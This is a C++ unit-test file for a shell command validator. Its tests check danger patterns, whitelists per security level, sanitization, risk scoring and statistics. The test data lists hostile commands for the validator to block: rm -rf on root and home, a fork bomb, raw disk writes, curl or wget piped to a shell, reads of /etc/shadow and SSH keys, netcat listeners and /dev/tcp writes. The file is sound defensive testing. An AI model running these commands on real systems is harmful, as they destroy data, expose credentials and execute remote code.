#include "bastion/security/command_validator.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <thread>

using namespace bastion::security;

namespace {

bool HasWarningContaining(const ValidationOutcome& outcome, const std::string& needle) {
    return std::any_of(outcome.warnings.begin(), outcome.warnings.end(),
                       [&needle](const std::string& w) { return w.find(needle) != std::string::npos; });
}

} // namespace

// ============================================================================
// Danger patterns
// ============================================================================

TEST(CommandValidatorTest, DangerPatternsWinOverWhitelist) {
    CommandValidator validator(SecurityLevel::STRICT);
    ASSERT_TRUE(validator.IsWhitelisted("rm"));

    for (const char* command : {"rm -rf /", "rm -fr ~", "rm -r -f /*", "rm -rf $HOME"}) {
        auto outcome = validator.Validate(command);
        EXPECT_FALSE(outcome.is_safe) << command;
        EXPECT_EQ(outcome.risk, RiskLevel::CRITICAL) << command;
    }
}

TEST(CommandValidatorTest, HighRiskPatternsBlockAtEveryLevel) {
    const std::vector<std::string> commands = {
        "sudo apt-get install foo",
        "chmod 777 app.py",
        "mkfs.ext4 /dev/sdb1",
        "dd if=/dev/zero of=/dev/sda",
        ":(){ :|:& };:",
        "wget -qO- http://example.com/install.sh | sh",
        "bash <(curl -s http://example.com/x)",
        "cat /etc/shadow",
        "cat ~/.ssh/id_rsa",
        "nc -lvp 4444",
        "echo hi > /dev/tcp/10.0.0.1/80",
        "eval \"$PAYLOAD\"",
        "shutdown -h now",
        "rm -rf /usr",
        "rm -r /etc",
        "rm -rf $HOME/",
        "rm -rf /home/user",
        "rm -rf ~/projects",
        "rm -f -R /var/lib",
        "rm --recursive /opt",
        "rm -rf ./build /usr/local",
    };

    for (auto level : {SecurityLevel::STRICT, SecurityLevel::PERMISSIVE, SecurityLevel::DEVELOPMENT}) {
        CommandValidator validator(level);
        for (const auto& command : commands) {
            auto outcome = validator.Validate(command);
            EXPECT_FALSE(outcome.is_safe) << SecurityLevelToString(level) << ": " << command;
            EXPECT_GE(outcome.risk, RiskLevel::HIGH) << command;
            EXPECT_TRUE(outcome.blocked_reason.has_value()) << command;
        }
    }
}

TEST(CommandValidatorTest, RecursiveDeleteOfAbsolutePathIsCritical) {
    CommandValidator validator(SecurityLevel::STRICT);

    for (const char* command : {"rm -rf /usr", "rm -r /etc", "rm -rf $HOME/", "rm -rf \"${HOME}/cache\""}) {
        auto outcome = validator.Validate(command);
        EXPECT_FALSE(outcome.is_safe) << command;
        EXPECT_EQ(outcome.risk, RiskLevel::CRITICAL) << command;
    }
}

TEST(CommandValidatorTest, RecursiveDeleteOfRelativePathIsAllowed) {
    CommandValidator validator(SecurityLevel::STRICT);

    for (const char* command : {"rm -rf build", "rm -r ./dist/", "rm -rf node_modules && ls /tmp", "rm /tmp/x.log"}) {
        auto outcome = validator.Validate(command);
        EXPECT_TRUE(outcome.is_safe) << command;
    }
}

TEST(CommandValidatorTest, PrivilegeEscalationWithRootDeletionIsBlocked) {
    for (auto level : {SecurityLevel::STRICT, SecurityLevel::PERMISSIVE, SecurityLevel::DEVELOPMENT}) {
        CommandValidator validator(level);
        auto outcome = validator.Validate("sudo rm -rf /");

        ASSERT_FALSE(outcome.is_safe);
        ASSERT_TRUE(outcome.blocked_reason.has_value());
        const auto& reason = *outcome.blocked_reason;
        EXPECT_TRUE(reason.find("Privilege escalation") != std::string::npos ||
                    reason.find("root filesystem") != std::string::npos)
            << reason;
    }
}

TEST(CommandValidatorTest, PipeToShellIsRemoteScriptExecution) {
    CommandValidator validator(SecurityLevel::STRICT);
    auto outcome = validator.Validate("curl http://x | bash");

    ASSERT_FALSE(outcome.is_safe);
    ASSERT_TRUE(outcome.blocked_reason.has_value());
    EXPECT_NE(outcome.blocked_reason->find("Remote script execution"), std::string::npos);
}

TEST(CommandValidatorTest, MediumPatternsOnlyWarn) {
    CommandValidator validator(SecurityLevel::STRICT);
    auto outcome = validator.Validate("ls -la > /dev/null");

    EXPECT_TRUE(outcome.is_safe);
    EXPECT_EQ(outcome.risk, RiskLevel::MEDIUM);
    EXPECT_TRUE(HasWarningContaining(outcome, "Potentially risky"));
}

TEST(CommandValidatorTest, DevNullInDdIsNotABlockDeviceWrite) {
    CommandValidator validator(SecurityLevel::DEVELOPMENT);
    validator.AddWhitelistCommand("dd");
    auto outcome = validator.Validate("dd if=input.bin of=/dev/null bs=1M");
    EXPECT_TRUE(outcome.is_safe);
}

// ============================================================================
// Whitelist
// ============================================================================

TEST(CommandValidatorTest, StrictModeBlocksUnknownExecutables) {
    CommandValidator validator(SecurityLevel::STRICT);
    auto outcome = validator.Validate("somecustomtool --flag");

    EXPECT_FALSE(outcome.is_safe);
    ASSERT_TRUE(outcome.blocked_reason.has_value());
    EXPECT_NE(outcome.blocked_reason->find("not in the whitelist"), std::string::npos);
}

TEST(CommandValidatorTest, PermissiveModeWarnsOnUnknownExecutables) {
    CommandValidator validator(SecurityLevel::PERMISSIVE);
    auto outcome = validator.Validate("somecustomtool --flag");

    EXPECT_TRUE(outcome.is_safe);
    EXPECT_FALSE(outcome.warnings.empty());
    EXPECT_TRUE(HasWarningContaining(outcome, "not in whitelist"));
    EXPECT_EQ(outcome.sanitized_command.value_or(""), "somecustomtool --flag");
}

TEST(CommandValidatorTest, DevelopmentModeHasLargerWhitelist) {
    CommandValidator strict(SecurityLevel::STRICT);
    CommandValidator development(SecurityLevel::DEVELOPMENT);

    EXPECT_FALSE(strict.Validate("tar -czf out.tgz src").is_safe);
    EXPECT_TRUE(development.Validate("tar -czf out.tgz src").is_safe);
    EXPECT_GT(development.GetStats().whitelist_size, strict.GetStats().whitelist_size);

    // Development still blocks what is not listed
    EXPECT_FALSE(development.Validate("somecustomtool").is_safe);
}

TEST(CommandValidatorTest, PathQualifiedExecutablesAreBlocked) {
    CommandValidator validator(SecurityLevel::PERMISSIVE);

    for (const char* command : {"/bin/ls", "../../bin/ls -la", "./run.sh", "bin/tool"}) {
        auto outcome = validator.Validate(command);
        EXPECT_FALSE(outcome.is_safe) << command;
        EXPECT_EQ(outcome.risk, RiskLevel::HIGH) << command;
    }
}

TEST(CommandValidatorTest, InvalidExecutableCharactersAreBlocked) {
    CommandValidator validator(SecurityLevel::PERMISSIVE);

    auto outcome = validator.Validate("$(whoami) --flag");
    EXPECT_FALSE(outcome.is_safe);
    ASSERT_TRUE(outcome.blocked_reason.has_value());
    EXPECT_NE(outcome.blocked_reason->find("Invalid characters"), std::string::npos);
}

TEST(CommandValidatorTest, UnbalancedQuotesAreBlocked) {
    CommandValidator validator(SecurityLevel::PERMISSIVE);
    auto outcome = validator.Validate("echo 'unterminated");

    EXPECT_FALSE(outcome.is_safe);
    ASSERT_TRUE(outcome.blocked_reason.has_value());
    EXPECT_NE(outcome.blocked_reason->find("Unparseable"), std::string::npos);
}

TEST(CommandValidatorTest, WhitelistCanBeExtendedAndShrunk) {
    CommandValidator validator(SecurityLevel::STRICT);

    EXPECT_FALSE(validator.Validate("mytool run").is_safe);
    EXPECT_TRUE(validator.AddWhitelistCommand("mytool"));
    EXPECT_TRUE(validator.Validate("mytool run").is_safe);

    EXPECT_TRUE(validator.RemoveWhitelistCommand("mytool"));
    EXPECT_FALSE(validator.RemoveWhitelistCommand("mytool"));
    EXPECT_FALSE(validator.Validate("mytool run").is_safe);

    EXPECT_FALSE(validator.AddWhitelistCommand("bad/name"));
    EXPECT_FALSE(validator.AddWhitelistCommand(""));
}

// ============================================================================
// Sanitization
// ============================================================================

TEST(CommandValidatorTest, SanitizeStripsControlCharactersAndComments) {
    EXPECT_EQ(CommandValidator::Sanitize("ls\x01\x07 -la"), "ls -la");
    EXPECT_EQ(CommandValidator::Sanitize("  ls   -la\t\n"), "ls -la");
    EXPECT_EQ(CommandValidator::Sanitize("ls -la # list everything"), "ls -la");
    EXPECT_EQ(CommandValidator::Sanitize("echo '# kept'"), "echo '# kept'");
    EXPECT_EQ(CommandValidator::Sanitize("# only a comment"), "");
}

TEST(CommandValidatorTest, SanitizeIsIdempotent) {
    const std::vector<std::string> inputs = {
        "ls -la",
        "  grep  -r \"a  b\"   src # search\n",
        "echo\x02 hi\t\tthere",
        "python3 -c 'print(1)'   ",
        "cat file # comment # another",
        "\x1b[31mred\x1b[0m",
    };

    for (const auto& input : inputs) {
        auto once = CommandValidator::Sanitize(input);
        EXPECT_EQ(CommandValidator::Sanitize(once), once) << input;
    }
}

TEST(CommandValidatorTest, EmptyAfterSanitizationFailsClosed) {
    CommandValidator validator(SecurityLevel::PERMISSIVE);

    for (const char* command : {"", "   ", "\x01\x02", "# just a comment"}) {
        auto outcome = validator.Validate(command);
        EXPECT_FALSE(outcome.is_safe);
        ASSERT_TRUE(outcome.blocked_reason.has_value());
        EXPECT_NE(outcome.blocked_reason->find("empty after sanitization"), std::string::npos);
    }
}

// ============================================================================
// Structural heuristics and scoring
// ============================================================================

TEST(CommandValidatorTest, ChainingProducesWarning) {
    CommandValidator validator(SecurityLevel::STRICT);
    auto outcome = validator.Validate("mkdir build && ls build");

    EXPECT_TRUE(outcome.is_safe);
    EXPECT_TRUE(HasWarningContaining(outcome, "chaining"));
    EXPECT_EQ(outcome.risk, RiskLevel::LOW);
}

TEST(CommandValidatorTest, PipeIntoDestructiveCommandWarns) {
    CommandValidator validator(SecurityLevel::STRICT);
    auto outcome = validator.Validate("find . -name '*.pyc' | xargs rm");

    EXPECT_TRUE(outcome.is_safe);
    EXPECT_TRUE(HasWarningContaining(outcome, "destructive"));
}

TEST(CommandValidatorTest, ManyWarningsRaiseRiskToMedium) {
    CommandValidator validator(SecurityLevel::PERMISSIVE);
    auto outcome = validator.Validate("mytool /var/* ; ls | rm x");

    ASSERT_TRUE(outcome.is_safe);
    EXPECT_GT(outcome.warnings.size(), 2u);
    EXPECT_EQ(outcome.risk, RiskLevel::MEDIUM);
}

TEST(CommandValidatorTest, PlainCommandIsLowRiskWithoutWarnings) {
    CommandValidator validator(SecurityLevel::STRICT);
    auto outcome = validator.Validate("pytest -q tests/");

    EXPECT_TRUE(outcome.is_safe);
    EXPECT_EQ(outcome.risk, RiskLevel::LOW);
    EXPECT_TRUE(outcome.warnings.empty());
    EXPECT_FALSE(outcome.blocked_reason.has_value());
}

// ============================================================================
// Statistics
// ============================================================================

TEST(CommandValidatorTest, StatsTrackBlockRate) {
    CommandValidator validator(SecurityLevel::STRICT);

    validator.Validate("ls");
    validator.Validate("ls -la");
    validator.Validate("sudo ls");

    auto stats = validator.GetStats();
    EXPECT_EQ(stats.total_validations, 3u);
    EXPECT_EQ(stats.blocked_count, 1u);
    EXPECT_DOUBLE_EQ(stats.block_rate_percent, 33.33);
    EXPECT_EQ(stats.security_level, SecurityLevel::STRICT);
    EXPECT_EQ(stats.whitelist_size, DefaultWhitelist(SecurityLevel::STRICT).size());
}

TEST(CommandValidatorTest, ConcurrentValidationIsCounted) {
    CommandValidator validator(SecurityLevel::STRICT);

    std::vector<std::thread> threads;
    for (int t = 0; t < 4; ++t) {
        threads.emplace_back([&validator]() {
            for (int i = 0; i < 50; ++i) {
                validator.Validate(i % 2 == 0 ? "ls" : "sudo ls");
            }
        });
    }
    for (auto& thread : threads) {
        thread.join();
    }

    auto stats = validator.GetStats();
    EXPECT_EQ(stats.total_validations, 200u);
    EXPECT_EQ(stats.blocked_count, 100u);
    EXPECT_DOUBLE_EQ(stats.block_rate_percent, 50.0);
}
